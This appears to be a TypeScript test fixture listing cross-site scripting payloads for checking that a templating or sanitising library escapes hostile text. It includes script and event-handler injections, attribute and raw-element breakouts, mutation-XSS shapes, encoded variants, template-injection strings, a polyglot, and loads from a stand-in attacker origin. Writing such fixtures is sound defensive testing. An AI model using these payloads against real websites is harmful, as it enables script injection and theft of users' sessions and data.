/** Raises the page's counter, however it is made to run. */
const run = '__xss++';

/** Another origin: whoever asks it for anything has been made to. */
export const evilOrigin = 'http://evil.invalid';

/**
 * Text that is script, markup or an address wherever it is not taken as text. Every one fits into a name (200 characters), has
 * no white space around it, and is well-formed Unicode.
 */
export const payloads: readonly string[] = [
  // Elements that run by themselves.
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src=${evilOrigin}/x.js></script>`,
  `<script/x>${run}</script\n>`,
  `<img src=x onerror=${run}>`,
  `<img/src/onerror=${run}>`,
  `<img src=${evilOrigin}/x.png>`,
  `<img src=x:x onerror\n=${run}//`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<style>@import "${evilOrigin}/x.css";</style>`,
  `<link rel=stylesheet href=${evilOrigin}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${evilOrigin}">`,
  `<base href=${evilOrigin}/>`,
  `<x onpointerenter=${run} style=position:fixed;inset:0>x</x>`,
  `<p style="animation:x" onanimationstart=${run}>`,
  // Out of an attribute, a comment, or an element whose content is raw.
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus tabindex=0 x='`,
  `" autofocus onfocus=${run}//`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  '` onerror=' + run + ' x=`',
  `--><script>${run}</script><!--`,
  `</title><script>${run}</script>`,
  `</textarea><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `]]><script>${run}</script>`,
  // Shapes that change when they are parsed a second time.
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  // Templates, and what script would make of text.
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `';${run};//`,
  `";${run};//`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  // Many contexts at once.
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/oNloAd=${run}//>`,
  // What Lit would write into a template of its own.
  `<!--?lit$000000000$-->`,
  `<lit-part><img src=x onerror=${run}></lit-part>`,
  `__proto__`,
];
